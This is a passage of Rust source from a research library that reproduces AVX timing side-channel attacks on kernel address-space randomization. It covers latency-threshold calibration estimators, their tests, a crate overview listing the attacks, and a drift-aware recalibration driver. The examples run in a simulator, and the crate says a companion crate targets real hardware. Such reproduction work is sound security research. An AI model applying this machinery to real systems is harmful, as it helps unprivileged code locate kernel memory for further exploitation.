    /// let bootstrap = KernelBaseFinder::new(Threshold::new(0.0, 0.0)).scan(&mut p);
    /// // ...and the EM re-fit recovers threshold, margin and live σ from it.
    /// let fit = Threshold::refit_bimodal(&bootstrap.samples).expect("two bands");
    /// assert!(fit.threshold.is_mapped(93) && !fit.threshold.is_mapped(107));
    /// assert!(fit.sigma > 0.0);
    /// let scan = KernelBaseFinder::new(fit.threshold).scan(&mut p);
    /// assert_eq!(scan.base, Some(truth.kernel_base));
    /// ```
    #[must_use]
    pub fn refit_bimodal(samples: &[u64]) -> Option<CalibrationFit> {
        let mix = fit_two_gaussians(samples)?;
        mix.is_separated().then(|| CalibrationFit {
            threshold: Threshold::new(mix.lo_mean, (mix.hi_mean - mix.lo_mean) / 2.0),
            sigma: mix.sigma,
            estimator: "bimodal",
        })
    }

    /// Classifies one measured latency.
    #[must_use]
    pub fn is_mapped(&self, cycles: u64) -> bool {
        (cycles as f64) <= self.value + self.margin
    }

    /// The effective decision boundary.
    #[must_use]
    pub fn boundary(&self) -> f64 {
        self.value + self.margin
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use avx_os::linux::{LinuxConfig, LinuxSystem};
    use avx_uarch::{CpuProfile, NoiseModel, NoiseProfile};

    fn prober(seed: u64) -> (SimProber, avx_os::linux::LinuxTruth) {
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (mut machine, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
        machine.set_noise(NoiseModel::none());
        (SimProber::new(machine), truth)
    }

    fn noisy_prober(seed: u64, noise: NoiseProfile) -> (SimProber, avx_os::linux::LinuxTruth) {
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (mut machine, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
        machine.set_noise_profile(noise);
        (SimProber::new(machine), truth)
    }

    #[test]
    fn calibrated_threshold_separates_mapped_from_unmapped() {
        let (mut p, truth) = prober(1);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);
        // Kernel-mapped steady load = 93, unmapped = 107 on Alder Lake.
        assert!(th.is_mapped(93), "boundary {}", th.boundary());
        assert!(!th.is_mapped(107), "boundary {}", th.boundary());
    }

    #[test]
    fn calibrated_value_matches_identity() {
        let (mut p, truth) = prober(2);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);
        // base_load + assist_load = 93 on this profile.
        assert!((th.value - 93.0).abs() <= 2.0, "value {}", th.value);
    }

    #[test]
    fn calibration_survives_noise() {
        let sys = LinuxSystem::build(LinuxConfig::seeded(3));
        let (machine, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 3);
        let mut p = SimProber::new(machine); // profile noise stays on
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 32);
        assert!(th.value > 85.0 && th.value < 101.0, "value {}", th.value);
    }

    #[test]
    fn bimodal_fallback() {
        let mut samples = Vec::new();
        for i in 0..200u64 {
            samples.push(92 + (i % 3));
            samples.push(106 + (i % 3));
        }
        let th = Threshold::from_bimodal_samples(&samples).unwrap();
        assert!(th.is_mapped(93));
        assert!(!th.is_mapped(107));
        assert!(Threshold::from_bimodal_samples(&[5, 5, 5]).is_none());
    }

    #[test]
    fn explicit_threshold_boundary() {
        let th = Threshold::new(93.0, 7.0);
        assert!(th.is_mapped(100));
        assert!(!th.is_mapped(101));
        assert_eq!(th.boundary(), 100.0);
    }

    #[test]
    fn calibrate_with_legacy_is_bit_identical_to_calibrate() {
        for seed in [1, 9, 23] {
            let (mut p1, truth1) = prober(seed);
            let th = Threshold::calibrate(&mut p1, truth1.user.calibration, 16);
            let (mut p2, truth2) = prober(seed);
            let fit = Threshold::calibrate_with(
                &mut p2,
                truth2.user.calibration,
                16,
                CalibratorKind::Legacy,
            );
            assert_eq!(fit.threshold, th, "seed {seed}");
            assert_eq!(fit.estimator, "legacy");
            assert_eq!(p1.probes_issued(), p2.probes_issued(), "probe schedule");
        }
    }

    #[test]
    fn every_estimator_lands_on_the_reference_level_when_quiet() {
        let (mut p, truth) = prober(5);
        for kind in CalibratorKind::ALL {
            let fit = Threshold::calibrate_with(&mut p, truth.user.calibration, 16, kind);
            assert!(
                (fit.threshold.value - 93.0).abs() <= 2.0,
                "{kind}: value {}",
                fit.threshold.value
            );
            assert!(fit.sigma >= 0.0, "{kind}");
        }
    }

    #[test]
    fn noise_aware_picks_legacy_quiet_and_trimmed_on_the_laptop() {
        let (mut p, truth) = noisy_prober(11, NoiseProfile::Quiet);
        let quiet = Threshold::calibrate_with(
            &mut p,
            truth.user.calibration,
            16,
            CalibratorKind::NoiseAware,
        );
        assert_eq!(quiet.estimator, "legacy");

        let (mut p, truth) = noisy_prober(11, NoiseProfile::LaptopDvfs);
        let laptop = Threshold::calibrate_with(
            &mut p,
            truth.user.calibration,
            16,
            CalibratorKind::NoiseAware,
        );
        assert_eq!(laptop.estimator, "trimmed");
        // The robust floor stays on the reference level even at σ×6;
        // the min-pulled floor would have drifted several cycles low.
        assert!(
            (laptop.threshold.value - 93.0).abs() <= 5.0,
            "laptop value {}",
            laptop.threshold.value
        );
        assert!(laptop.sigma > NOISE_AWARE_SIGMA_CUTOFF, "{}", laptop.sigma);
    }

    #[test]
    fn legacy_floor_drifts_low_on_the_laptop_preset() {
        // The documented limitation this subsystem exists to fix: the
        // min-pulled floor under σ×6 lands well below the robust floor.
        let (mut p, truth) = noisy_prober(13, NoiseProfile::LaptopDvfs);
        let legacy =
            Threshold::calibrate_with(&mut p, truth.user.calibration, 16, CalibratorKind::Legacy);
        let (mut p, truth) = noisy_prober(13, NoiseProfile::LaptopDvfs);
        let trimmed =
            Threshold::calibrate_with(&mut p, truth.user.calibration, 16, CalibratorKind::Trimmed);
        assert!(
            legacy.threshold.value < trimmed.threshold.value - 3.0,
            "legacy {} vs trimmed {}",
            legacy.threshold.value,
            trimmed.threshold.value
        );
    }

    #[test]
    fn refit_bimodal_recovers_both_modes_and_sigma() {
        let mut samples = Vec::new();
        for i in 0..300u64 {
            samples.push(91 + (i % 5)); // 91..95, mean 93
            samples.push(105 + (i % 5)); // 105..109, mean 107
        }
        let fit = Threshold::refit_bimodal(&samples).unwrap();
        assert!((fit.threshold.value - 93.0).abs() < 1.0, "{fit:?}");
        assert!((fit.threshold.boundary() - 100.0).abs() < 1.5, "{fit:?}");
        assert!(fit.sigma < 3.0, "{fit:?}");
        assert!(Threshold::refit_bimodal(&[93, 93, 93]).is_none());
    }

    #[test]
    fn kind_names_round_trip_through_parse() {
        for kind in CalibratorKind::ALL {
            assert_eq!(CalibratorKind::parse(kind.name()), Some(kind));
            assert_eq!(kind.to_string(), kind.name());
        }
        assert_eq!(CalibratorKind::parse("EM"), Some(CalibratorKind::Bimodal));
        assert_eq!(
            CalibratorKind::parse("auto"),
            Some(CalibratorKind::NoiseAware)
        );
        assert_eq!(CalibratorKind::parse("min"), Some(CalibratorKind::Legacy));
        assert_eq!(CalibratorKind::parse("bogus"), None);
        assert_eq!(CalibratorKind::default(), CalibratorKind::Legacy);
    }
}
