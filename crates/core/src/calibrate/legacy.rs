//! The original min-pulled floor estimator, preserved bit-exact.

use crate::stats::Welford;

use super::{CalibrationFit, Calibrator, Threshold, DEFAULT_MARGIN};

/// The historical `Threshold::calibrate` estimator: the sample mean,
/// pulled down to `min + 2` once at least four samples exist.
///
/// Rationale (unchanged from the seed implementation): the mean is
/// spike-sensitive, the minimum is not, so use the median-ish floor and
/// pull the value toward the minimum. This is exactly right on a quiet
/// host, where the Gaussian jitter is ≈ 1 cycle and the minimum of a
/// 16-sample series sits on the true level. It is exactly *wrong* on a
/// wide-σ machine: the expected minimum of n Gaussian samples lies
/// ≈ σ·Φ⁻¹(1/n) below the mean (1.7 σ at n = 16), so at the laptop
/// preset's σ×6 the fitted floor — and with it the decision boundary
/// and both SPRT hypotheses — drifts ≈ 8 cycles low. Keep this
/// estimator for quiet-host work and golden-value continuity; reach for
/// [`super::Trimmed`] or [`super::NoiseAware`] anywhere σ is not small.
///
/// The arithmetic below must not be re-ordered or refactored: golden
/// accuracy rows and a bit-exactness property test
/// (`crates/core/tests/calibrator_props.rs`) pin its output to the
/// pre-subsystem function, f64 operation for f64 operation.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Legacy;

impl Calibrator for Legacy {
    fn name(&self) -> &'static str {
        "legacy"
    }

    fn fit(&self, samples: &[u64]) -> CalibrationFit {
        let mut w = Welford::new();
        let mut min = u64::MAX;
        for &t in samples {
            min = min.min(t);
            w.push(t as f64);
        }
        // Use the median-ish floor: the mean is spike-sensitive, the
        // minimum is not. Pull the value toward the minimum.
        let value = if w.count() >= 4 {
            f64::min(w.mean(), min as f64 + 2.0)
        } else {
            w.mean()
        };
        CalibrationFit {
            threshold: Threshold {
                value,
                margin: DEFAULT_MARGIN,
            },
            sigma: w.stddev(),
            estimator: "legacy",
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The seed-era implementation, verbatim, as the reference.
    fn reference(samples: &[u64]) -> f64 {
        let mut w = Welford::new();
        let mut min = u64::MAX;
        for &t in samples {
            min = min.min(t);
            w.push(t as f64);
        }
        if w.count() >= 4 {
            f64::min(w.mean(), min as f64 + 2.0)
        } else {
            w.mean()
        }
    }

    #[test]
    fn fit_is_bit_exact_with_the_reference_on_edge_shapes() {
        for samples in [
            vec![],
            vec![93],
            vec![93, 95, 91],           // < 4 samples: plain mean
            vec![93, 95, 91, 97],       // exactly 4: min-pull engages
            vec![93, 93, 93, 93, 2093], // spike
            vec![80, 120, 93, 93, 93, 93],
        ] {
            let fit = Legacy.fit(&samples);
            assert_eq!(fit.threshold.value.to_bits(), reference(&samples).to_bits());
            assert_eq!(fit.threshold.margin, DEFAULT_MARGIN);
        }
    }

    #[test]
    fn min_pull_engages_at_four_samples() {
        // Mean 100, min 90: three samples keep the mean, four pull.
        let three = Legacy.fit(&[90, 100, 110]);
        assert_eq!(three.threshold.value, 100.0);
        let four = Legacy.fit(&[90, 100, 110, 100]);
        assert_eq!(four.threshold.value, 92.0);
    }
}
