//! Robust floor estimation: trimmed-mean location, MAD scale.

use crate::stats::{mad_sigma, trimmed_mean, Welford};

use super::{CalibrationFit, Calibrator, Threshold, DEFAULT_MARGIN};

/// Fraction trimmed from each tail: the midmean (interquartile mean).
pub const TRIM_FRACTION: f64 = 0.25;

/// Midmean/MAD floor estimator.
///
/// Location: the 25 %-per-tail trimmed mean. Under symmetric Gaussian
/// jitter of *any* width this is an unbiased estimate of the reference
/// level (the min-pulled [`super::Legacy`] floor is biased low by
/// ≈ 1.7 σ at n = 16), and the one-sided interrupt-spike tail of timing
/// data falls entirely inside the trimmed upper quartile, so spikes up
/// to 25 % contamination cannot move it.
///
/// Scale: the normal-consistent MAD ([`crate::stats::mad_sigma`]),
/// reported through [`CalibrationFit::sigma`] so the adaptive engine's
/// SPRT can model the environment it actually measured
/// ([`crate::AdaptiveSampler::from_fit`]).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Trimmed;

impl Calibrator for Trimmed {
    fn name(&self) -> &'static str {
        "trimmed"
    }

    fn fit(&self, samples: &[u64]) -> CalibrationFit {
        // Empty input mirrors Legacy's empty-Welford behaviour (mean 0)
        // so the two estimators stay interchangeable on degenerate data.
        let value = trimmed_mean(samples, TRIM_FRACTION).unwrap_or_else(|| Welford::new().mean());
        CalibrationFit {
            threshold: Threshold {
                value,
                margin: DEFAULT_MARGIN,
            },
            sigma: mad_sigma(samples).unwrap_or(0.0),
            estimator: "trimmed",
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clean_series_lands_on_the_mean() {
        let fit = Trimmed.fit(&[91, 92, 93, 94, 95]);
        assert!((fit.threshold.value - 93.0).abs() < 1e-12);
        assert_eq!(fit.threshold.margin, DEFAULT_MARGIN);
        assert!(fit.sigma > 0.0);
    }

    #[test]
    fn spikes_cannot_move_the_floor() {
        // 2 interrupt spikes in 16 samples (12.5 % contamination).
        let mut samples = vec![92u64, 93, 94, 93, 92, 93, 94, 93, 92, 93, 94, 93, 92, 93];
        samples.push(1500);
        samples.push(2900);
        let fit = Trimmed.fit(&samples);
        assert!((fit.threshold.value - 93.0).abs() < 1.0, "{fit:?}");
        // The MAD scale ignores the spikes too.
        assert!(fit.sigma < 3.0, "{fit:?}");
    }

    #[test]
    fn degenerate_inputs_are_defined() {
        assert_eq!(Trimmed.fit(&[]).threshold.value, 0.0);
        assert_eq!(Trimmed.fit(&[]).sigma, 0.0);
        assert_eq!(Trimmed.fit(&[93]).threshold.value, 93.0);
        let constant = Trimmed.fit(&[93, 93, 93, 93]);
        assert_eq!(constant.threshold.value, 93.0);
        assert_eq!(constant.sigma, 0.0);
    }
}
