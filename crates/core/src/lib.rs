//! # avx-channel — the AVX timing side-channel attack library
//!
//! A faithful reproduction of *AVX Timing Side-Channel Attacks against
//! Address Space Layout Randomization* (Choi, Kim, Shin — DAC 2023).
//!
//! The AVX/AVX2 masked load/store instructions (`VMASKMOV`,
//! `VPMASKMOV`) suppress page faults for masked-out lanes, yet their
//! *latency* still depends on the translation of the probed address:
//! present vs non-present, TLB-cached vs not, walk depth, page
//! permissions. This crate packages those observations as three
//! reusable primitives and the paper's complete set of end-to-end
//! attacks:
//!
//! | Attack | Paper section | Entry point |
//! |---|---|---|
//! | Kernel base (Intel) | §IV-B, Fig. 4 | [`attacks::KernelBaseFinder`] |
//! | Kernel base (AMD) | §IV-B | [`attacks::AmdKernelBaseFinder`] |
//! | Module identification | §IV-C, Fig. 5 | [`attacks::ModuleScanner`] |
//! | KPTI trampoline | §IV-D | [`attacks::KptiAttack`] |
//! | Behaviour inference | §IV-E, Fig. 6 | [`attacks::TlbSpy`] |
//! | User-space / SGX | §IV-F, Fig. 7 | [`attacks::UserSpaceScanner`] |
//! | Windows 10 / KVAS | §IV-G | [`attacks::WindowsKaslrAttack`] |
//! | Cloud guests | §IV-H | [`attacks::run_scenario`] |
//! | Defense analysis | §V | [`defense`] (legacy shim: [`countermeasures`]) |
//!
//! Attacks are generic over [`Prober`]; [`SimProber`] runs them against
//! the deterministic microarchitectural simulator, while the `avx-hw`
//! crate provides the same interface over real AVX2 hardware.
//!
//! ## Quick start
//!
//! ```
//! use avx_channel::{KernelBaseFinder, SimProber, Threshold};
//! use avx_os::linux::{LinuxConfig, LinuxSystem};
//! use avx_uarch::CpuProfile;
//!
//! // A KASLR-randomized Linux machine...
//! let system = LinuxSystem::build(LinuxConfig::seeded(42));
//! let (machine, truth) = system.into_machine(CpuProfile::alder_lake_i5_12400f(), 7);
//!
//! // ...attacked from an unprivileged process:
//! let mut prober = SimProber::new(machine);
//! let threshold = Threshold::calibrate(&mut prober, truth.user.calibration, 16);
//! let scan = KernelBaseFinder::new(threshold).scan(&mut prober);
//!
//! assert_eq!(scan.base, Some(truth.kernel_base));
//! ```

#![deny(missing_docs)]
#![deny(unsafe_code)]

pub mod adaptive;
pub mod attacks;
pub mod calibrate;
pub mod countermeasures;
pub mod decision;
pub mod defense;
pub mod fleet;
pub mod primitives;
pub mod prober;
pub mod recal;
pub mod report;
pub mod schedule;
pub mod stats;
pub mod sweep;

pub use adaptive::{AdaptiveConfig, AdaptiveMinFilter, AdaptiveSampler, Sampling};
pub use attacks::{
    AmdKernelBaseFinder, KernelBaseFinder, KptiAttack, KptiConfidence, ModuleClassifier,
    ModuleScanner, TlbSpy, UserSpaceScanner, WindowsKaslrAttack,
};
pub use calibrate::{CalibrationFit, Calibrator, CalibratorKind, Threshold};
pub use decision::{ConfirmConfig, Confirmation, Confirmer, FirstConfirmed, RunTracker, SlotSprt};
pub use defense::{
    Defense, DefenseKind, DefenseRegion, MaskedTranslation, NoDefense, Rerandomizing,
};
pub use fleet::{victim_seed, Fleet, FleetConfig, FleetReducer, FleetReport};
pub use primitives::{
    LevelAttack, PageTableAttack, PermissionAttack, ProbedPerm, TlbAttack, TlbState,
};
pub use prober::{ProbeStrategy, Prober, SimProber};
pub use recal::{DriftMonitor, DriftSignal, RecalConfig, RecalEvent, Recalibrating};
pub use schedule::ScheduleKind;
pub use sweep::AddrRange;
