//! Closed-loop self-recalibration: keep the calibration honest while
//! the environment drifts.
//!
//! Every attack of §IV calibrates once and then trusts that fit for the
//! whole scan. That is the paper's quiet-host methodology — and exactly
//! what breaks when DVFS kicks in or a co-tenant lands on the core
//! mid-sweep: the threshold stays roughly right (the band *means* do
//! not move), but the fitted σ the SPRT's likelihoods assume goes stale,
//! so an [`crate::AdaptiveSampler`] built during the quiet phase settles
//! wrong answers with great confidence. NetSpectre-style remote attacks
//! live or die on continuous threshold re-estimation; Oreo argues ASLR
//! defenses must be evaluated against attackers that adapt online. This
//! module supplies that attacker:
//!
//! * [`DriftMonitor`] streams each probed tile's representative samples
//!   into a sliding window and watches two signals: the per-band
//!   MAD-dispersion (did the Gaussian widen past what the current fit
//!   claims?) and the SPRT forced-decision rate (is the sampler running
//!   out of budget without crossing a boundary?).
//! * [`Recalibrating`] drives a [`PageTableAttack`] sweep tile by tile;
//!   when the monitor trips it re-fits from the window via
//!   [`Threshold::refit_bimodal`] (the EM re-fit recovers both band
//!   means *and* the live σ from in-scan data — no second calibration
//!   page visit needed), rebuilds the sampler through the
//!   [`Sampling::sampler_from_fit`] single-σ-policy chokepoint, and
//!   re-classifies the suspicious window under the new fit.
//! * [`RecalibratingMinFilter`] is the level-signal analogue for the
//!   AMD path (no threshold to re-fit): on a dispersion shift it
//!   escalates the min-filter's probe budget so the latency floors stay
//!   trustworthy.
//!
//! Recalibration is **off by default** everywhere
//! ([`PageTableAttack::recal`], `CampaignConfig::recal` are `None`), and
//! with the trigger never firing the driver is bit-exact with the
//! non-recalibrating sweep — both properties are pinned by
//! `crates/core/tests/recal_props.rs`, which is what keeps every
//! pre-existing golden row untouched.
//!
//! # Example: a drifting scan that recalibrates itself
//!
//! ```
//! use avx_channel::recal::{RecalConfig, Recalibrating};
//! use avx_channel::{
//!     AdaptiveSampler, CalibratorKind, PageTableAttack, SimProber, Threshold,
//! };
//! use avx_channel::attacks::kaslr::KernelBaseFinder;
//! use avx_os::linux::{LinuxConfig, LinuxSystem};
//! use avx_uarch::{CpuProfile, NoiseProfile};
//!
//! let sys = LinuxSystem::build(LinuxConfig::seeded(5));
//! let (mut machine, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 5);
//! // A quiet host whose environment ramps to laptop-DVFS mid-scan.
//! machine.set_noise_profile(NoiseProfile::drift_quiet_to_laptop());
//! let mut p = SimProber::new(machine);
//!
//! // One-shot calibration happens in the quiet phase and measures σ ≈ 1.
//! let fit = Threshold::calibrate_with(
//!     &mut p,
//!     truth.user.calibration,
//!     16,
//!     CalibratorKind::NoiseAware,
//! );
//! let attack = PageTableAttack::new(fit.threshold)
//!     .with_adaptive(AdaptiveSampler::from_fit(&fit));
//! let mut driver = Recalibrating::new(attack, RecalConfig::default());
//! let sweep = driver.sweep_range(&mut p, &KernelBaseFinder::candidate_range());
//! // The dispersion monitor notices the drift and re-fits in-scan.
//! assert!(sweep.refits >= 1);
//! assert!(driver.threshold().is_mapped(93));
//! assert_eq!(sweep.mapped.len(), 512);
//! ```

use std::collections::VecDeque;

use avx_mmu::VirtAddr;

use crate::adaptive::{AdaptiveMinFilter, Sampling};
use crate::calibrate::{CalibrationFit, Threshold};
use crate::primitives::{PageTableAttack, SweepClassification};
use crate::prober::{ProbeStrategy, Prober};
use crate::stats::mad_sigma_scratch;
use crate::sweep::AddrRange;

/// Tuning knobs of the closed loop. The defaults are the pinned
/// campaign configuration (`repro --recalibrate`); `docs/CALIBRATION.md`
/// discusses when to move each one.
#[derive(Clone, Copy, PartialEq, Debug)]
pub struct RecalConfig {
    /// Sliding-window length in representative samples (one per probed
    /// candidate address).
    pub window: usize,
    /// Minimum window fill before the triggers arm.
    pub min_samples: usize,
    /// Dispersion trigger: fires when a band's windowed MAD-σ exceeds
    /// `dispersion_ratio ×` the current fit's σ.
    pub dispersion_ratio: f64,
    /// Floor under the fit σ when forming the dispersion limit, so a
    /// near-zero quiet fit cannot make single-cycle jitter look like
    /// drift.
    pub sigma_floor: f64,
    /// SPRT trigger: fires when the fraction of forced (budget-
    /// exhausted) decisions in the window exceeds this rate. Only the
    /// adaptive sampling path produces forced decisions.
    pub unsettled_rate: f64,
    /// Samples to observe after a refit before the triggers re-arm.
    pub cooldown: usize,
    /// Re-classify the window's addresses under the new fit after a
    /// refit (the samples that accumulated while the stale fit was
    /// still deciding). Bounded by `window` extra measurements per
    /// refit.
    pub rescan: bool,
    /// Hard cap on refits per driver, a runaway-loop backstop.
    pub max_refits: u32,
}

impl Default for RecalConfig {
    fn default() -> Self {
        Self {
            window: 128,
            min_samples: 64,
            dispersion_ratio: 2.0,
            sigma_floor: 1.0,
            unsettled_rate: 0.25,
            cooldown: 64,
            rescan: true,
            max_refits: 8,
        }
    }
}

/// Why the monitor tripped.
#[derive(Clone, Copy, PartialEq, Debug)]
pub enum DriftSignal {
    /// A band's windowed MAD-σ exceeded the fit's claim.
    Dispersion {
        /// The measured windowed band MAD-σ.
        measured: f64,
        /// The limit it exceeded (`dispersion_ratio × fit σ`).
        limit: f64,
    },
    /// Too many SPRT decisions were forced at the budget.
    Unsettled {
        /// Fraction of forced decisions in the window.
        rate: f64,
    },
}

/// One recalibration the driver performed.
#[derive(Clone, Copy, Debug)]
pub struct RecalEvent {
    /// Global candidate index (within this driver's lifetime) at which
    /// the trigger fired.
    pub at_address: usize,
    /// The signal that fired.
    pub signal: DriftSignal,
    /// The threshold in effect before the refit.
    pub threshold_before: Threshold,
    /// The fit the window produced.
    pub fit: CalibrationFit,
}

/// One window entry: a candidate's representative sample plus how its
/// decision was reached.
#[derive(Clone, Copy, Debug)]
struct WindowEntry {
    index: usize,
    addr: VirtAddr,
    sample: u64,
    settled: bool,
}

/// The sliding-window drift detector.
///
/// Samples in a sweep are *bimodal* (mapped and unmapped candidates
/// interleave), so a window-wide dispersion estimate would read the
/// band gap as noise. The monitor therefore splits the window at the
/// current decision boundary and measures each band's MAD-σ separately;
/// under a stationary environment that matches the fit's σ, and under
/// `NoiseModel::none()` it is exactly zero, so the trigger can never
/// fire on a noiseless scan (property-pinned).
#[derive(Clone, Debug)]
pub struct DriftMonitor {
    config: RecalConfig,
    /// σ the current fit claims; the dispersion limit scales from it.
    baseline_sigma: f64,
    entries: VecDeque<WindowEntry>,
    since_refit: usize,
    /// Reused MAD buffer — the monitor runs once per probe tile and
    /// must not put allocations back on the zero-alloc sweep path.
    scratch: Vec<f64>,
}

/// Band entries below this count are too thin for a MAD estimate.
pub const MIN_BAND_SAMPLES: usize = 8;

impl DriftMonitor {
    /// A monitor against the σ of the calibration currently in effect.
    #[must_use]
    pub fn new(config: RecalConfig, baseline_sigma: f64) -> Self {
        Self {
            config,
            baseline_sigma,
            entries: VecDeque::with_capacity(config.window.max(1)),
            // The initial fit needs no cooldown: trigger as soon as the
            // window has evidence.
            since_refit: config.cooldown,
            scratch: Vec::with_capacity(config.window.max(1)),
        }
    }

    /// Streams one candidate's representative sample into the window.
    pub fn observe(&mut self, index: usize, addr: VirtAddr, sample: u64, settled: bool) {
        if self.entries.len() >= self.config.window.max(1) {
            self.entries.pop_front();
        }
        self.entries.push_back(WindowEntry {
            index,
            addr,
            sample,
            settled,
        });
        self.since_refit = self.since_refit.saturating_add(1);
    }

    /// The one band-partition rule of the monitor: split the window
    /// (skipping the oldest `skip` entries) at `boundary` and return
    /// the larger per-band MAD-σ (bands with fewer than
    /// [`MIN_BAND_SAMPLES`] entries read as 0). Both the dispersion
    /// trigger and the σ-refresh route through here so the band
    /// convention cannot fork; the reused scratch buffer keeps the
    /// per-tile check allocation-free.
    fn band_mad(&mut self, skip: usize, boundary: f64) -> f64 {
        let Self {
            entries, scratch, ..
        } = self;
        let mut band = |fast: bool| {
            let samples = entries
                .iter()
                .skip(skip)
                .map(|e| e.sample as f64)
                .filter(|&s| (s <= boundary) == fast);
            match mad_sigma_scratch(samples, scratch) {
                Some(mad) if scratch.len() >= MIN_BAND_SAMPLES => mad,
                _ => 0.0,
            }
        };
        band(true).max(band(false))
    }

    /// The windowed per-band dispersion: the larger MAD-σ of the two
    /// bands the decision boundary splits the window into (bands with
    /// fewer than [`MIN_BAND_SAMPLES`] entries are skipped).
    #[must_use]
    pub fn band_dispersion(&mut self, boundary: f64) -> f64 {
        self.band_mad(0, boundary)
    }

    /// Fraction of window entries whose decision was forced at the
    /// probe budget.
    #[must_use]
    pub fn unsettled_fraction(&self) -> f64 {
        if self.entries.is_empty() {
            return 0.0;
        }
        let forced = self.entries.iter().filter(|e| !e.settled).count();
        forced as f64 / self.entries.len() as f64
    }

    /// Checks the triggers against the current decision boundary.
    #[must_use]
    pub fn check(&mut self, boundary: f64) -> Option<DriftSignal> {
        if self.entries.len() < self.config.min_samples.max(1)
            || self.since_refit < self.config.cooldown
        {
            return None;
        }
        let limit = self.config.dispersion_ratio * self.baseline_sigma.max(self.config.sigma_floor);
        let measured = self.band_dispersion(boundary);
        if measured > limit {
            return Some(DriftSignal::Dispersion { measured, limit });
        }
        let rate = self.unsettled_fraction();
        if rate > self.config.unsettled_rate {
            return Some(DriftSignal::Unsettled { rate });
        }
        None
    }

    /// The window's samples in arrival order (what the re-fit consumes).
    #[must_use]
    pub fn samples(&self) -> Vec<u64> {
        self.entries.iter().map(|e| e.sample).collect()
    }

    /// Per-band MAD-σ of the *freshest half* of the window. While a
    /// ramp is still in progress the window mixes noise levels, so a
    /// full-window estimate lags the live σ; the freshest half tracks
    /// it, and a continuing ramp simply re-trips the (re-based) trigger
    /// and walks the estimate up step by step.
    #[must_use]
    pub fn fresh_sigma(&mut self, boundary: f64) -> f64 {
        let half = self.entries.len().div_ceil(2);
        let skip = self.entries.len() - half;
        let per_band = self.band_mad(skip, boundary);
        if per_band > 0.0 {
            per_band
        } else {
            // Both bands too thin to split: fall back to the half's
            // overall MAD (still spike-robust).
            let Self {
                entries, scratch, ..
            } = self;
            mad_sigma_scratch(entries.iter().skip(skip).map(|e| e.sample as f64), scratch)
                .unwrap_or(0.0)
        }
    }

    /// Resets the window around a fresh fit: the old samples were drawn
    /// under the stale calibration and must not re-trip the new one.
    pub fn note_refit(&mut self, new_sigma: f64) {
        self.baseline_sigma = new_sigma;
        self.entries.clear();
        self.since_refit = 0;
    }

    /// Window addresses at or past `floor_index`, for the post-refit
    /// rescan (arrival order).
    fn rescan_targets(&self, floor_index: usize) -> Vec<(usize, VirtAddr)> {
        self.entries
            .iter()
            .filter(|e| e.index >= floor_index)
            .map(|e| (e.index, e.addr))
            .collect()
    }
}

/// The closed-loop sweep driver.
///
/// Wraps a [`PageTableAttack`] and sweeps with the identical tile
/// decomposition as the open-loop paths
/// ([`PageTableAttack::sweep_range`] /
/// [`crate::AdaptiveSampler::classify_range`]), feeding every tile's
/// representative samples through a [`DriftMonitor`]. State persists
/// across calls, so chunked scans (the Windows §IV-G region loop) keep
/// one threshold trajectory for the whole region.
#[derive(Clone, Debug)]
pub struct Recalibrating {
    attack: PageTableAttack,
    config: RecalConfig,
    monitor: DriftMonitor,
    /// The threshold the attack was *calibrated* with — the fixed
    /// anchor of the EM re-centering gate. The live threshold may be
    /// refit many times on a long scan; gating each refit against this
    /// anchor (not the previous refit) keeps the accepted moves inside
    /// one tolerance of the reference level, so successive mid-ramp EM
    /// artifacts cannot random-walk the boundary into a band tail.
    reference: Threshold,
    events: Vec<RecalEvent>,
    /// Candidates processed across the driver's lifetime.
    processed: usize,
}

impl Recalibrating {
    /// Builds the driver around an attack. The monitor's baseline σ is
    /// the sampler's fitted σ on the adaptive path and the
    /// [`RecalConfig::sigma_floor`] on the fixed path (the fixed path
    /// carries no σ model to compare against).
    #[must_use]
    pub fn new(attack: PageTableAttack, config: RecalConfig) -> Self {
        let baseline_sigma = attack
            .sampler
            .map_or(config.sigma_floor, |s| s.sigma)
            .max(config.sigma_floor);
        let mut attack = attack;
        // The driver owns the loop; the inner attack must not recurse.
        attack.recal = None;
        Self {
            reference: attack.threshold,
            attack,
            config,
            monitor: DriftMonitor::new(config, baseline_sigma),
            events: Vec::new(),
            processed: 0,
        }
    }

    /// The threshold currently in effect (moves across refits).
    #[must_use]
    pub fn threshold(&self) -> Threshold {
        self.attack.threshold
    }

    /// Recalibrations performed so far.
    #[must_use]
    pub fn refits(&self) -> u32 {
        self.events.len() as u32
    }

    /// The recalibration log.
    #[must_use]
    pub fn events(&self) -> &[RecalEvent] {
        &self.events
    }

    /// Sweeps a candidate slice under the closed loop.
    pub fn sweep<P: Prober + ?Sized>(
        &mut self,
        p: &mut P,
        addrs: &[VirtAddr],
    ) -> SweepClassification {
        let mut out = SweepClassification {
            samples: Vec::with_capacity(addrs.len()),
            mapped: Vec::with_capacity(addrs.len()),
            probes: 0,
            refits: 0,
        };
        let call_base = self.processed;
        for tile in addrs.chunks(ProbeStrategy::BATCH_TILE) {
            self.sweep_tile(p, tile, call_base, &mut out);
        }
        out
    }

    /// Sweeps an [`AddrRange`] under the closed loop, streaming one
    /// reused tile buffer (the [`AddrRange::tiles`] decomposition the
    /// open-loop paths use).
    pub fn sweep_range<P: Prober + ?Sized>(
        &mut self,
        p: &mut P,
        range: &AddrRange,
    ) -> SweepClassification {
        let mut out = SweepClassification {
            samples: Vec::with_capacity(range.len()),
            mapped: Vec::with_capacity(range.len()),
            probes: 0,
            refits: 0,
        };
        let call_base = self.processed;
        let mut tile = Vec::with_capacity(ProbeStrategy::BATCH_TILE);
        for chunk in range.tiles() {
            chunk.fill(&mut tile);
            self.sweep_tile(p, &tile, call_base, &mut out);
        }
        out
    }

    /// One tile: classify with the current fit, feed the monitor,
